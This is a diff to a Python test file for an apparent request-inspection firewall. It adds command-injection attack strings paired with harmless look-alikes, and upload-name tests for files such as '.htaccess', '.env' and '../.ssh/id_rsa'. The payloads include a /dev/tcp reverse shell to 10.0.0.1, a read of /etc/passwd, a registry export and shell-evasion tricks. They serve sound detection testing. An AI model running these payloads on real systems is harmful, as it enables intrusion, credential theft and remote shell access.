@@ -119,6 +119,29 @@ PAIRS = [
     ("appsec.js_injection", "while(!false)", "while false"),
     ("appsec.js_injection", "while(true);", "while it is true"),
     ("appsec.js_injection", "Kernel.exec('id')", "kernel execution"),
+    # command injection: admin tools at the start of a value, shells and compilers with an option,
+    # commands after a separator, parameter expansion, subshells, globs and batch conditions
+    ("appsec.cmdi", "cscli alerts list", "alerts list for cscli users"),
+    ("appsec.cmdi", "ansible-playbook site.yml", "playbook for the site"),
+    ("appsec.cmdi", "time bsdtar -xf a.tar", "time to untar"),
+    ("appsec.cmdi", "aa-disable php-fpm", "a-a disable"),
+    ("appsec.cmdi", "ksh -c 'curl x'", "ksh is a shell"),
+    ("appsec.cmdi", "c99 -wrapper sh,-c,id", "c99 compiler standard"),
+    ("appsec.cmdi", "perf --version", "perfect version"),
+    ("appsec.cmdi", "cd /;cd etc;column passwd", "column of passwords"),
+    ("appsec.cmdi", ";gdb -nx -ex quit", "gdb tutorial"),
+    ("appsec.cmdi", ";gcc10.1<<<void main(){}", "gcc 10.1 release notes"),
+    ("appsec.cmdi", "&aptitude", "aptitude test"),
+    ("appsec.cmdi", "a; sh$XX -c whoami", "price: US$10"),
+    ("appsec.cmdi", "${x#{}}", "costs $5 #{approx}"),
+    ("appsec.cmdi", "d=/dev&&(sh)0>$d/tcp/10.0.0.1/7", "(she) went"),
+    ("appsec.cmdi", "/[e///]tc", "/items[0]/name"),
+    ("appsec.cmdi", "{,ifconfig}", "{a, b}"),
+    ("appsec.cmdi", "IF CMDEXTVERSION 1 GOTO start", "if the version is 1"),
+    ("appsec.cmdi", 'if "A A" == "A A" echo same', "if a equals b"),
+    ("appsec.cmdi", "alias ..='cd ..'", "alias name"),
+    ("appsec.cmdi", "alias +m a=b", "an alias of mine"),
+    ("appsec.cmdi", "; regedit /E c:\\x.reg HKEY_CURRENT_USER", "registry edit"),
     # PHP
     ("appsec.php_injection", "[php]echo 'test'", "php developer"),
     ("appsec.php_injection", "test<?", "a <b> tag"),
@@ -204,3 +227,15 @@ def test_json_body_without_content_type_is_sniffed(judge: Judge) -> None:
     found = judge(body=b'{ "q": "1\' OR \'1\'=\'1" }', method="POST")
     assert ("appsec.sqli", "json:q") in found
     assert judge(body=b'{"q": "blue shoes"}', method="POST") == []
+
+
+@pytest.mark.parametrize("name", [".htaccess", "web.config", "wp-config. php", ".bashrc", "authorized_keys", ".env",
+                                  "../.ssh/id_rsa", ".boto"])
+def test_upload_named_after_a_configuration_file(judge: Judge, name: str) -> None:
+    assert "appsec.upload_config_file" in rules_of(judge(headers=[("x-filename", name)]))
+
+
+@pytest.mark.parametrize("name", ["report.pdf", "htaccess-notes.txt", "holiday-photos.tar", "bashrc-tips.md",
+                                  "config.png"])
+def test_upload_with_an_ordinary_name_passes(judge: Judge, name: str) -> None:
+    assert judge(headers=[("x-filename", name)]) == []
